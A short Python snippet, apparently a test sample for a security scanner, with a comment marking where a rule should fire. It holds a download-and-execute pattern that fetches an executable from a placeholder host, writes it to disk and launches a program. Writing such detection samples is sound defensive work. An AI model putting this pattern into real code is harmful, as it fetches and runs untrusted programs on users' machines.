import os, requests

def start():
    data = requests.get("https://host.invalid/tool.exe").content
    open(where(), "wb").write(data)  # fires: call
    os.startfile("C:\\\\tool one.exe")
